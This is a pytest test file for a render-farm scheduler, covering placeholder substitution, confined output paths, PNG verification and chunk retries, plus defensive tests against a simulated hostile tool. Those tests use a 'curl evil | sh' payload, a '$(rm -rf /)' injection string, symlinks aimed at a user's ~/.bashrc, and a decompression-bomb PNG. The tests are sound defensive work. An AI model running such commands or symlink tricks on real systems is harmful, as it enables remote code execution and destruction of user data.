"""Renders without an engine: the tool's render keys (placeholders from data, confined output
patterns), PNG verification, and the chunk scheduler with a fake chunk runner."""

from __future__ import annotations

import os
import shutil
import struct
import threading
import time
import zlib
from pathlib import Path

import pytest

from landscape.errors import ConfigError, LandscapeError
from landscape.frames import chunks, parse
from landscape.renderspec import (BadImage, RenderSpec, attempt_folder, attempt_pattern,
                                  check_pattern,
                                  confined, frame_name, png_size, render_spec, substitute,
                                  verify_frame, weaker_check)
from landscape.engine.render import (LOGS, RenderJob, frames_to_render, host_path, log_tail,
                                     render)


def png(width: int, height: int, *, interlace: int = 0, color: int = 2) -> bytes:
    """A valid PNG of ``width`` x ``height`` (8-bit RGB or grey), every pixel black."""
    channels = {0: 1, 2: 3, 6: 4}[color]

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data))

    if interlace:
        from landscape.renderspec import _raw_size

        raw = b"\0" * _raw_size(width, height, 8, color, 1)
    else:
        raw = (b"\0" + b"\0" * width * channels) * height
    return (b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, color, 0, 0, interlace))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


# -- placeholders --------------------------------------------------------------------------

def test_placeholders_are_replaced_as_whole_items_and_inside_one():
    args = ["-s", "{frame_start}", "-e", "{frame_end}", "-j", "{frame_step}",
            "--out={output}", "{frames}", "-a"]
    got = substitute(args, {"frame_start": "1001", "frame_end": "1005", "frame_step": "2",
                            "frames": "1001,1003,1005", "output": "r/f_####.png"})
    assert got == ["-s", "1001", "-e", "1005", "-j", "2", "--out=r/f_####.png",
                   "1001,1003,1005", "-a"]


@pytest.mark.parametrize("text", ["{0.__class__}", "{frame_start.__class__}",
                                  "{frame_start!r}", "{{frame_start}}x", "$(rm -rf /)",
                                  "{FRAME_START}", "{ frames }", "{unknown}", "%s {}"])
def test_anything_but_a_placeholder_token_stays_literal(text):
    got = substitute([text], {"frame_start": "7", "frames": "7"})
    if text == "{{frame_start}}x":
        assert got == ["{7}x"]  # the token inside is replaced; the outer braces stay
    else:
        assert got == [text]


def test_a_value_is_inserted_verbatim_never_read_again():
    got = substitute(["{output}{frame_start}"], {"output": "{frame_start}\\1$HOME;",
                                                  "frame_start": "3"})
    assert got == ["{frame_start}\\1$HOME;3"]


# -- the tool's keys -----------------------------------------------------------------------

def spec_data(**keys):
    return {k: {"value": v, "from": f"/s/landscape.yaml:{i + 3}:9"}
            for i, (k, v) in enumerate(keys.items())}


def test_render_spec_reads_the_keys():
    s = render_spec("blender/render", spec_data(
        frames=["-o", "{output}", "-s", "{frame_start}", "-e", "{frame_end}", "-a"],
        outputs="renders/frame_####.png", verify="decodes"))
    assert s.chooses_output and s.verify == "decodes" and s.outputs == "renders/frame_####.png"


@pytest.mark.parametrize("keys, words", [
    ({"outputs": "r/f_####.png"}, "no frames key"),
    ({"frames": ["{frame_start}"]}, "no outputs key"),
    ({"frames": ["-a"], "outputs": "r/f_####.png"}, "hands no frame"),
    ({"frames": ["{frames}"], "outputs": "../f_####.png"}, "'..'"),
    ({"frames": ["{frames}"], "outputs": "r/f_####.png", "verify": "looks"}, "one of"),
])
def test_render_spec_errors_name_the_key_and_place(keys, words):
    with pytest.raises(ConfigError) as e:
        render_spec("nuke/render", spec_data(**keys))
    assert words in e.value.message
    assert e.value.key_path[:2] == ("tools", "nuke")
    if "frames" in keys or "outputs" in keys:
        assert e.value.location is not None and e.value.location.file == "/s/landscape.yaml"


@pytest.mark.parametrize("pattern", [
    "/etc/frame_####.png", "../frame_####.png", "renders/../../x_####.png", "~/f_####.png",
    "renders//f_####.png", "./f_####.png", "renders/frame.png", "r/f_##_##.png",
    "r_##/frame_####.png", "r/.landscape-attempt-x/f_####.png", "r/f_####\n.png", "",
])
def test_hostile_or_unusable_output_patterns_are_refused(pattern):
    assert check_pattern(pattern) is not None


def test_hostile_output_patterns_fail_the_schema_with_file_and_line(studio, cli):
    root = studio({"landscape.yaml": """
        root: true
        rez: {packages_path: [packages]}
        tools:
          r:
            command: [python]
            frames: ["{frame_start}"]
            outputs: ../../etc/frame_####.png
            verify: everything
    """})
    r = cli("check", root)
    assert r.code == 1
    assert "landscape.yaml:7:" in r.err and "outputs" in r.err
    assert "landscape.yaml:8:" in r.err and "verify" in r.err


def test_frame_names_and_attempt_patterns():
    assert frame_name("renders/frame_####.png", 7) == "renders/frame_0007.png"
    assert frame_name("f_##.exr", 12345) == "f_12345.exr"
    assert attempt_pattern("renders/frame_####.png", "1-2", 3) == \
        "renders/.landscape-attempt-1-2-3/frame_####.png"
    assert attempt_pattern("frame_####.png", "5", 1) == ".landscape-attempt-5-1/frame_####.png"


def test_the_output_folder_stays_inside_the_working_directory(tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    assert confined(work, "renders/beauty") == (work / "renders/beauty").resolve()
    (work / "escape").symlink_to(tmp_path)
    with pytest.raises(LandscapeError, match="outside the working directory"):
        confined(work, "escape/renders")


def test_an_output_folder_that_is_not_writable_is_one_line(tmp_path, monkeypatch):
    import os

    if os.getuid() == 0:  # root writes everywhere: the check is what is tested
        real = os.access
        monkeypatch.setattr(os, "access", lambda p, m: real(p, m) and not str(p).endswith(
            "renders"))
    work = tmp_path / "work"
    (work / "renders").mkdir(parents=True)
    (work / "renders").chmod(0o555)
    try:
        with pytest.raises(LandscapeError, match="not writable"):
            confined(work, "renders")
    finally:
        (work / "renders").chmod(0o755)
    (work / "blocked").write_text("a file where the folder goes")
    with pytest.raises(LandscapeError, match="cannot make the output folder"):
        confined(work, "blocked/renders")


def test_host_path_goes_through_the_deepest_bind():
    binds = [("/data/projects", "/mnt/projects", "rw"), ("/data/lib", "/mnt/projects/lib", "ro")]
    assert host_path(binds, "/mnt/projects/a/work") == Path("/data/projects/a/work")
    assert host_path(binds, "/mnt/projects/lib/x") is None  # read-only
    assert host_path(binds, "/home/x") is None


# -- PNG -----------------------------------------------------------------------------------

def test_png_size_reads_a_whole_png(tmp_path):
    for inter in (0, 1):
        f = tmp_path / f"a{inter}.png"
        f.write_bytes(png(33, 17, interlace=inter))
        assert png_size(f) == (33, 17)
        assert verify_frame(f, "resolution", [33, 17]) is None
        assert verify_frame(f, "resolution", [32, 17]) == "33x17 pixels, not 32x17"


@pytest.mark.parametrize("damage, words", [
    (lambda b: b[:-12], "truncated"),
    (lambda b: b[:40] + bytes([b[40] ^ 0xFF]) + b[41:], "CRC"),
    (lambda b: b"GIF89a" + b[6:], "not a PNG"),
    (lambda b: b[:8] + b[33:], "first chunk"),
])
def test_damaged_pngs_fail_decodes(tmp_path, damage, words):
    f = tmp_path / "f.png"
    f.write_bytes(damage(png(8, 8)))
    assert words in (verify_frame(f, "decodes") or "")
    assert verify_frame(f, "exists") is None


def test_a_png_with_too_little_pixel_data_fails(tmp_path):
    good = png(8, 8)
    raw = zlib.compress(b"\0" * 10)
    idat = struct.pack(">I", len(raw)) + b"IDAT" + raw + struct.pack(">I", zlib.crc32(b"IDAT" + raw))
    head = good[:33]
    end = good[-12:]
    f = tmp_path / "f.png"
    f.write_bytes(head + idat + end)
    with pytest.raises(BadImage, match="incomplete"):
        png_size(f)


def test_missing_empty_and_symlinked_frames_fail_every_check(tmp_path):
    (tmp_path / "empty.png").write_bytes(b"")
    (tmp_path / "real.png").write_bytes(png(2, 2))
    (tmp_path / "link.png").symlink_to(tmp_path / "real.png")
    for mode in ("exists", "decodes", "resolution"):
        assert verify_frame(tmp_path / "none.png", mode) == "missing"
        assert verify_frame(tmp_path / "empty.png", mode) == "empty"
        assert verify_frame(tmp_path / "link.png", mode) == "not a regular file"


def test_other_formats_fall_back_to_exists_and_say_so(tmp_path):
    f = tmp_path / "f.exr"
    f.write_bytes(b"v/1\x01 not really an exr")
    assert verify_frame(f, "decodes") is None
    assert "decodes PNG files only" in weaker_check("r/f_####.exr", "decodes")
    assert weaker_check("r/f_####.png", "resolution") is None


# -- the scheduler -------------------------------------------------------------------------

class FakeTool:
    """A chunk runner that writes PNG frames as a tool would, and misbehaves on request:
    ``fail_once`` chunks fail their first attempt, ``silent`` chunks exit 0 without writing
    on their first attempt, ``always`` chunks always fail."""

    def __init__(self, job_dir: Path, fail_once=(), silent=(), always=(), delay=0.0):
        self.dir, self.fail_once, self.silent, self.always = job_dir, fail_once, silent, always
        self.delay = delay
        self.calls: list[tuple[str, int, list[str]]] = []
        self.lock = threading.Lock()
        self.running = 0
        self.most = 0

    def __call__(self, chunk, attempt, args, log):
        with self.lock:
            self.calls.append((chunk.name, attempt, args))
            self.running += 1
            self.most = max(self.most, self.running)
        try:
            time.sleep(self.delay)
            log.write_text(f"rendering {chunk.name} attempt {attempt}\n")
            if chunk.name in self.always or (chunk.name in self.fail_once and attempt == 1):
                with open(log, "a") as f:
                    f.write("Error: out of licences\n")
                return 3
            if chunk.name in self.silent and attempt == 1:
                return 0
            out = args[args.index("-o") + 1]
            for f in chunk.frames:
                p = self.dir / frame_name(out, f)
                p.parent.mkdir(parents=True, exist_ok=True)
                p.write_bytes(png(4, 2))
            return 0
        finally:
            with self.lock:
                self.running -= 1


SPEC = RenderSpec(["-o", "{output}", "-s", "{frame_start}", "-e", "{frame_end}", "-j",
                   "{frame_step}"],
                  "renders/f_####.png", "resolution")


def job(tmp_path, spec="1-8", size=2, retries=1, parallel=2, frames=None):
    work = tmp_path / "work"
    out = confined(work, "renders")
    return RenderJob(chunks(frames if frames is not None else parse(spec), size), SPEC,
                     work, out, [4, 2], retries, parallel)


def names(d: Path) -> list[str]:
    return sorted(p.name for p in d.iterdir() if not p.name.startswith("."))


def test_every_frame_is_rendered_verified_and_moved_into_place(tmp_path):
    j = job(tmp_path)
    tool = FakeTool(j.workdir, delay=0.05)
    lines: list[str] = []
    result = render(j, tool, log=lines.append)
    assert result.ok
    assert names(j.outdir) == [f"f_{f:04d}.png" for f in range(1, 9)]
    assert not list(j.outdir.glob(".landscape-attempt-*"))
    assert len(tool.calls) == 4 and tool.most == 2
    # each attempt renders in a private folder, named after chunk and attempt
    assert tool.calls[0][2][1].startswith("renders/.landscape-attempt-")
    assert any("chunk 1-2: done, 2 frame(s) verified" in line for line in lines)


def test_a_chunk_that_fails_once_succeeds_on_retry(tmp_path):
    j = job(tmp_path)
    tool = FakeTool(j.workdir, fail_once={"3-4"})
    lines: list[str] = []
    result = render(j, tool, log=lines.append)
    assert result.ok
    assert [r.attempts for r in result.results] == [1, 2, 1, 1]
    assert any("chunk 3-4: attempt 1 failed: exit 3" in line and "retrying" in line
               for line in lines)
    assert (j.outdir / LOGS / "3-4.1.log").read_text().endswith("out of licences\n")


def test_an_attempt_that_exits_0_without_its_frames_is_caught_and_retried(tmp_path):
    j = job(tmp_path)
    tool = FakeTool(j.workdir, silent={"5-6"})
    lines: list[str] = []
    result = render(j, tool, log=lines.append)
    assert result.ok
    assert result.results[2].attempts == 2
    assert any("chunk 5-6: attempt 1 failed: exit 0, frame 5 missing, frame 6 missing" in line
               for line in lines)


def test_a_chunk_that_always_fails_ends_in_bounded_time_naming_it(tmp_path):
    j = job(tmp_path, retries=2)
    tool = FakeTool(j.workdir, always={"7-8"})
    t0 = time.monotonic()
    result = render(j, tool, log=lambda line: None)
    assert time.monotonic() - t0 < 10
    assert not result.ok
    [bad] = result.failed
    assert bad.chunk.name == "7-8" and bad.attempts == 3
    assert bad.reason == "exit 3, frame 7 missing, frame 8 missing"
    assert bad.log == j.outdir / LOGS / "7-8.3.log" and bad.log.exists()
    assert names(j.outdir) == [f"f_{f:04d}.png" for f in range(1, 7)]


def test_resume_renders_exactly_the_missing_or_bad_frames_and_is_idempotent(tmp_path):
    j = job(tmp_path)
    render(j, FakeTool(j.workdir), log=lambda line: None)
    (j.outdir / "f_0003.png").unlink()
    (j.outdir / "f_0007.png").write_bytes(b"half a frame")
    todo = frames_to_render(parse("1-8"), SPEC, j.outdir, [4, 2])
    assert todo == [3, 7]
    j2 = job(tmp_path, frames=todo)
    tool = FakeTool(j2.workdir)
    assert render(j2, tool, log=lambda line: None).ok
    assert sorted(f for c in j2.chunks for f in c.frames) == [3, 7]
    assert [c[0] for c in tool.calls] == ["3-7x4"]  # one stepped chunk: -s 3 -e 7 -j 4
    assert frames_to_render(parse("1-8"), SPEC, j.outdir, [4, 2]) == []


def test_stop_ends_the_render_and_removes_attempt_folders(tmp_path):
    j = job(tmp_path, parallel=1)
    stop = threading.Event()
    stopped = []

    class Stopping(FakeTool):
        def __call__(self, chunk, attempt, args, log):
            code = super().__call__(chunk, attempt, args, log)
            if chunk.name == "3-4":
                stop.set()
            return code

    result = render(j, Stopping(j.workdir), log=lambda line: None, stop=stop,
                    on_stop=lambda: stopped.append(1))
    assert result.interrupted and not result.ok and stopped == [1]
    assert names(j.outdir) == ["f_0001.png", "f_0002.png"]  # what was in place stays
    assert not list(j.outdir.glob(".landscape-attempt-*"))


def test_a_tool_without_a_step_gets_only_consecutive_chunks(tmp_path):
    spec = RenderSpec(["-s", "{frame_start}", "-e", "{frame_end}"], "r/f_####.png")
    assert not spec.steps and SPEC.steps
    assert chunks([1, 3, 5, 6, 7], 3, spec.steps) == [
        chunks([1], 1)[0], chunks([3], 1)[0], *chunks([5, 6, 7], 3)]


def test_a_tool_with_its_own_output_path_must_rewrite_its_frames(tmp_path):
    spec = RenderSpec(["-s", "{frame_start}", "-e", "{frame_end}"], "renders/f_####.png",
                      "exists")
    j = job(tmp_path, spec="1-2", size=2)
    j.spec = spec
    (j.outdir / "f_0001.png").write_bytes(b"old")
    (j.outdir / "f_0002.png").write_bytes(b"old")
    calls = []

    def lazy(chunk, attempt, args, log):  # exits 0 and writes nothing
        calls.append(args)
        return 0

    result = render(j, lazy, log=lambda line: None)
    assert not result.ok and "not written by this attempt" in result.failed[0].reason
    assert calls[0] == ["-s", "1", "-e", "2"]


def test_an_engine_refusal_stops_the_render_with_one_line(tmp_path):
    j = job(tmp_path, parallel=1)

    def refused(chunk, attempt, args, log):
        raise LandscapeError("the engine refused the launch: no such image")

    result = render(j, refused, log=lambda line: None)
    assert not result.ok and result.fatal == "chunk 1-2: the engine refused the launch: no such image"
    assert len([r for r in result.results if r.attempts]) == 0


def test_launch_inputs_carry_the_render_keys_through_the_cache(example):
    from landscape.context import resolve
    from landscape.launchinputs import LaunchInputs

    shot = example / "projects/lighthouse/seq010/sh020"
    inputs = resolve(shot, tool="blender/render").launch_inputs()
    again = LaunchInputs.from_record(inputs.to_record())
    s = render_spec(again.tool, again.render)
    assert s.outputs == "renders/frame_####.png" and s.verify == "resolution"
    assert s.chooses_output
    assert s.where["outputs"].startswith(str(example / "landscape.yaml") + ":")


def test_a_chunk_claiming_more_than_the_file_holds_is_not_read(tmp_path):
    f = tmp_path / "f.png"
    f.write_bytes(png(2, 2)[:33] + struct.pack(">I", 0x7FFFFFF0) + b"IDAT" + b"\0" * 16)
    assert "truncated in chunk IDAT" in verify_frame(f, "decodes")


# -- a hostile tool: the outputs folder is writable by every container of the render -----

class Planting:
    """A chunk runner that acts as a hostile tool would inside its container: on its
    first attempt it plants ``plant(outdir, chunk)`` in the outputs folder and fails; the
    next attempt prints ``payload`` and fails."""

    def __init__(self, outdir: Path, plant, payload: bytes = b"curl evil | sh\n"):
        self.outdir, self.plant, self.payload = outdir, plant, payload

    def __call__(self, chunk, attempt, args, log):
        if attempt == 1:
            self.plant(self.outdir, chunk)
        with open(log, "ab") as f:
            f.write(self.payload)
        return 1


def test_a_log_symlinked_by_a_container_never_overwrites_a_host_file(tmp_path):
    # the tool makes the next attempt's log a symlink to the artist's ~/.bashrc
    victim = tmp_path / "bashrc"
    victim.write_text("precious\n")

    def plant(outdir, chunk):
        (outdir / LOGS).mkdir(exist_ok=True)
        (outdir / LOGS / f"{chunk.name}.2.log").symlink_to(victim)

    j = job(tmp_path, "1-2", retries=1, parallel=1)
    result = render(j, Planting(j.outdir, plant), log=lambda line: None)
    assert not result.ok
    assert victim.read_text() == "precious\n"
    kept = j.outdir / LOGS / "1-2.2.log"
    assert not kept.is_symlink() and kept.read_bytes() == b"curl evil | sh\n"
    assert result.results[0].log == kept
    assert log_tail(result.results[0]) == ["curl evil | sh"]


def test_a_logs_folder_or_outputs_folder_swapped_for_a_symlink_is_not_followed(tmp_path):
    elsewhere = tmp_path / "host-folder"
    elsewhere.mkdir()

    def logs_link(outdir, chunk):
        (outdir / LOGS).symlink_to(elsewhere)

    j = job(tmp_path, "1-2", retries=1, parallel=1)
    render(j, Planting(j.outdir, logs_link), log=lambda line: None)
    assert list(elsewhere.iterdir()) == []

    def outdir_link(outdir, chunk):
        shutil.rmtree(outdir)
        outdir.symlink_to(elsewhere)

    j2 = job(tmp_path / "2", "1-2", retries=1, parallel=1)
    lines: list[str] = []
    result = render(j2, Planting(j2.outdir, outdir_link), log=lines.append)
    assert list(elsewhere.iterdir()) == []
    assert result.results[0].log is None and log_tail(result.results[0]) == ["curl evil | sh"]
    assert any("log not kept" in line for line in lines)


def test_frames_are_not_moved_through_an_outputs_folder_swapped_after_the_render(tmp_path):
    # a tool that renders, then swaps the outputs folder for a symlink out of the workdir
    elsewhere = tmp_path / "host-folder"
    elsewhere.mkdir()
    j = job(tmp_path, "1-2", retries=0, parallel=1)
    fake = FakeTool(j.workdir)

    def tool(chunk, attempt, args, log):
        code = fake(chunk, attempt, args, log)
        moved = j.outdir.with_name("moved")
        j.outdir.rename(moved)
        j.outdir.symlink_to(elsewhere)
        (elsewhere / attempt_folder(chunk.name, attempt)).symlink_to(
            moved / attempt_folder(chunk.name, attempt))
        return code

    result = render(j, tool, log=lambda line: None)
    assert not result.ok and "replaced" in result.results[0].reason
    assert [p.name for p in elsewhere.iterdir()] == [attempt_folder("1-2", 1)]


def test_a_frame_that_inflates_to_gigabytes_is_decoded_in_bounded_memory(tmp_path):
    # a hostile tool writes a few hundred KB that inflate to the size its header promises
    import tracemalloc

    f = tmp_path / "bomb.png"
    f.write_bytes(png(4096, 4096, color=6))  # 64 MiB of pixel data, about 65 KB on disk
    assert f.stat().st_size < 1 << 20
    tracemalloc.start()
    try:
        assert verify_frame(f, "decodes") is None
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 << 20


def test_a_fifo_swapped_in_for_a_frame_is_refused_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "f.png")
    with pytest.raises(BadImage, match="not a regular file"):
        png_size(tmp_path / "f.png")
    (tmp_path / "real.png").write_bytes(png(2, 2))
    (tmp_path / "link.png").symlink_to(tmp_path / "real.png")
    with pytest.raises(OSError):
        png_size(tmp_path / "link.png")
